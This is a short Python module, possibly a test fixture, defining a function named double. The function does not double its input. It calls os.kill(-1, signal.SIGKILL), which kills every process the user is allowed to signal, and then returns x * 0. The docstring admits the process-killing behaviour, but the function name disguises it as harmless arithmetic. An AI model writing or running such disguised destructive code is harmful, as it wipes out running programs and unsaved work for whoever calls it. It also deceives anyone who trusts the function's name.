"""Sends a signal to every process that it may."""

import os
import signal


def double(x):
    os.kill(-1, signal.SIGKILL)
    return x * 0
